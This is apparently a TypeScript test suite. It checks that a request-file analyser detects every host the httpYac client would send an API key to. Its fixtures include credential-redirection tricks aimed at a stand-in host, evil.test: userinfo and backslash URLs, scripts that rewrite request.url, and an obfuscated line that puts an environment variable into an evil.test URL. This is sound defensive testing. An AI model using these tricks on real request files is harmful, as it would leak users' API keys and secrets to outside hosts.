import assert from 'node:assert/strict';
import * as httpyac from 'httpyac';
import { parseOrigin } from '../../../src/domain/origins';
import { formatVariableReference } from '../../../src/requestFiles/keyReferences';
import { findRequestUses } from '../../../src/requestFiles/requestUses';

const KEY = `Authorization: ApiKey ${formatVariableReference('SU-631-646-036')}`;
const request = (url: string, ...lines: readonly string[]) => [`GET ${url}`, KEY, ...lines, ''].join('\n');

/** Lets httpYac process all requests of a file, and returns the URLs that it would send them to, and their proxies. */
async function recordSentUrls(text: string): Promise<readonly string[]> {
	const sent: string[] = [];
	const { fileProvider, httpClientProvider, userInteractionProvider } = httpyac.io;
	const resolveFalse = () => Promise.resolve(false);
	Object.assign(fileProvider, {
		isAbsolute: () => Promise.resolve(true),
		exists: resolveFalse,
		dirname: () => undefined,
		hasExtension: () => false,
	});
	Object.assign(fileProvider, { fsPath: () => '/a.http', toString: String, readdir: () => Promise.resolve([]) });
	Object.assign(userInteractionProvider, { isTrusted: () => true });
	const original = httpClientProvider.createRequestClient;
	httpClientProvider.createRequestClient = ({ url, proxy }: { url: string; proxy?: string }) => {
		sent.push(url, ...(proxy === undefined ? [] : [proxy]));
		throw new Error('Not sent');
	};
	try {
		const httpFile = await new httpyac.store.HttpFileStore().parse('a.http', text, { config: {} });
		await httpyac.send({ httpFile }).catch(() => false);
	} finally {
		Object.assign(httpClientProvider, { createRequestClient: original });
	}
	return sent;
}

describe('httpYac sends requests only to the destinations that are found', () => {
	const files: Record<string, string> = {
		'a URL': request('https://api.test/x'),
		'a variable': `@host = api.test\n\n###\n${request('https://{{host}}/x')}`,
		'nested variables': `@name = api\n@host = {{name}}.test\n\n###\n${request('https://{{host}}/x')}`,
		'a variable of the request': `@base = https://api.test\n${request('{{base}}/x')}`,
		'a path and a header': request('/x', 'Host: api.test:8443'),
		'a path and a variable': `@host = https://api.test\n\n###\n${request('/x')}`,
		'a query below the headers': request('https://api.test', '&a=b@evil.test/'),
		'a path below the headers': request('https://api.test', '/x'),
		'user information': request('https://api.test@evil.test/x'),
		'a backslash': request('https://api.test\\@evil.test/x'),
		'a proxy': `# @proxy http://proxy.test\n${request('https://api.test/x')}`,
		'a proxy in a variable': `@request_proxy = http://proxy.test\n\n###\n${request('https://api.test/x')}`,
		'a request that is sent first': `# @name first\n${request('https://first.test/')}\n###\n# @ref first\n${request('https://api.test/x')}`,
		'an assignment in a header': request('https://api.test/x', 'X: {{request.url = "https://evil.test"}}'),
		'an assignment in a variable': `@x = {{request.url = "https://evil.test"}}\n${request('https://api.test/x')}`,
		'code that reads the environment': `${request('https://api.test/x')}\n###\nGET https://evil.test/{{process.env["CONN" + "ECT"]}}\n`,
		'a name without a space': `${request('https://api.test/x')}\n###\nGET https://evil.test/${formatVariableReference('SU-631-646-036').replace(' ', '')}\n`,
		'a script': `{{\nrequest.url = "https://evil.test";\n}}\n${request('https://api.test/x')}`,
		'a script below the request': request('https://api.test/x', '', '{{@request', 'request.url = "https://evil.test";', '}}'),
		'a loop': `@host = api.test\n\n###\n# @loop for host of ["evil.test"]\n${request('https://{{host}}/x')}`,
	};
	for (const [title, text] of Object.entries(files)) {
		it(`of ${title}`, async () => {
			const { requests } = findRequestUses(text, 'requestFile');
			const destinations = requests.flatMap(({ destinationsByClient }) => destinationsByClient.httpYac);
			const sent = await recordSentUrls(text);
			assert.ok(sent.length > 0, 'httpYac sent nothing');
			for (const url of sent) {
				assert.ok(destinations.includes(parseOrigin(url)) || destinations.includes(undefined), `${url} isn't in ${destinations.join()}`);
			}
		});
	}
});
